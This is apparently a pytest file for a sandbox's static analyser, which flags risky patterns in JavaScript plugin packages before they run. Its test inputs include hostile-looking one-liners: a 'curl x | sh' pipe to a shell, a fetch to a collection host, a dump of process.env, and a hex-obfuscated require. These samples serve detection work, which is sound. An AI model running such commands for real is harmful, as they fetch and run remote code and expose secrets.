"""What is noticed in a plugin's files before it runs."""

from pathlib import Path

import pytest

from sandbox.analysis.analyser import analyse
from sandbox.analysis.finding import Finding, FindingKind, Severity
from sandbox.grants.permission import Permission
from sandbox.install.bundled_artifact import BUNDLE
from sandbox.limits import MEBIBYTE, Limits
from tests.sandbox.plugins import write_package

PLUGIN = "export default { name: 'p', description: '', actions: [] };\n"


@pytest.mark.parametrize(
    ("source", "kind"),
    [
        ("eval('1');", FindingKind.EVAL),
        ("new Function('return 1')();", FindingKind.EVAL),
        ("import cp from 'node:child_process';", FindingKind.PROCESS),
        ("const cp = require('child_process'); cp.execSync('curl x | sh');", FindingKind.PROCESS),
        ("import fs from 'fs/promises';", FindingKind.FILES),
        ("import net from 'node:net';", FindingKind.NETWORK),
        ("fetch('https://collect.example.com/x');", FindingKind.NETWORK),
        ("import(process.env.WHAT);", FindingKind.DYNAMIC_IMPORT),
        ("require(Buffer.from('6673', 'hex').toString());", FindingKind.DYNAMIC_IMPORT),
        ("JSON.stringify(process.env);", FindingKind.ENVIRONMENT),
        ("Object.prototype.then = () => {};", FindingKind.PROTOTYPE_CHANGE),
        ("import { Worker } from 'node:worker_threads';", FindingKind.THREADS),
        ("this is no ( JavaScript", FindingKind.NOT_PARSED),
    ],
)
async def test_it_finds_the_place(tmp_path: Path, source: str, kind: FindingKind) -> None:
    artifact = write_package(tmp_path / "p", {"index.mjs": PLUGIN, "lib/bad.js": f"\n{source}\n"})
    found = [each for each in (await analyse(artifact, Limits())).findings if each.kind is kind]
    assert [(each.package, each.file) for each in found] == [("", "lib/bad.js")] * len(found)
    assert found
    assert found[0].line in (2, None)


async def test_of_a_bundle_only_what_it_was_made_of_is_read(tmp_path: Path) -> None:
    files = {"index.mjs": f"{PLUGIN}eval('1');", str(BUNDLE): f"{PLUGIN}eval('1');"}
    found = (await analyse(write_package(tmp_path / "p", files), Limits())).findings
    assert {each.file for each in found if each.kind is FindingKind.EVAL} == {"index.mjs"}


async def test_install_scripts_and_machine_code_are_found_in_dependencies_too(
    tmp_path: Path,
) -> None:
    artifact = write_package(
        tmp_path / "p",
        {
            "index.mjs": PLUGIN,
            "node_modules/@a/b/package.json": '{\n "scripts": {\n  "postinstall": "node x"}}',
            "node_modules/@a/b/build/x.node": "",
            "node_modules/c/binding.gyp": "{}",
        },
    )
    found = {(each.kind, each.package, each.line) for each in (await _findings(artifact))}
    assert found == {
        (FindingKind.INSTALL_SCRIPT, "@a/b", 3),
        (FindingKind.NATIVE_ADDON, "@a/b", None),
        (FindingKind.NATIVE_ADDON, "c", None),
    }


async def test_it_proposes_what_the_plugin_seems_to_need(tmp_path: Path) -> None:
    source = "fetch('https://api.example.com/'); runtime.setCache('a', 1);"
    analysis = await analyse(write_package(tmp_path / "p", {"index.mjs": source}), Limits())
    assert analysis.hosts == ("api.example.com",)
    assert analysis.permissions == (
        Permission.NETWORK_EXTERNAL,
        Permission.STORAGE_READ,
        Permission.STORAGE_WRITE,
    )


async def test_it_proposes_a_browser_to_who_opens_pages(tmp_path: Path) -> None:
    source = "const page = await context.newPage();"
    analysis = await analyse(write_package(tmp_path / "p", {"index.mjs": source}), Limits())
    assert analysis.permissions == (Permission.BROWSER_USE, Permission.NETWORK_EXTERNAL)


async def test_a_harmless_plugin_has_no_findings(tmp_path: Path) -> None:
    assert await _findings(write_package(tmp_path / "p", {"index.mjs": PLUGIN})) == ()


async def test_what_could_not_be_read_in_time_is_told_of(tmp_path: Path) -> None:
    files = {f"{n}.js": "let a;" for n in range(30)}
    artifact = write_package(tmp_path / "p", {"index.mjs": PLUGIN, **files})
    (finding,) = (await analyse(artifact, Limits(), seconds=0)).findings
    assert finding.kind is FindingKind.INCOMPLETE
    assert finding.severity is Severity.MEDIUM
    assert finding.detail == "31 files were not read in time, 0 were"


async def test_a_plugin_that_brings_the_analyser_down_is_told_of(tmp_path: Path) -> None:
    deep = "[" * 400_000
    artifact = write_package(tmp_path / "p", {"index.mjs": PLUGIN, "deep.js": deep})
    limits = Limits(memory_bytes=128 * MEBIBYTE)
    kinds = {each.kind for each in (await analyse(artifact, limits)).findings}
    assert kinds & {FindingKind.INCOMPLETE, FindingKind.NOT_PARSED}


async def test_findings_are_bounded(tmp_path: Path) -> None:
    evals = "eval('1');\n" * 500
    artifact = write_package(tmp_path / "p", {"index.mjs": PLUGIN + evals})
    assert len(await _findings(artifact)) == 20


async def _findings(artifact: Path) -> tuple[Finding, ...]:
    return (await analyse(artifact, Limits())).findings
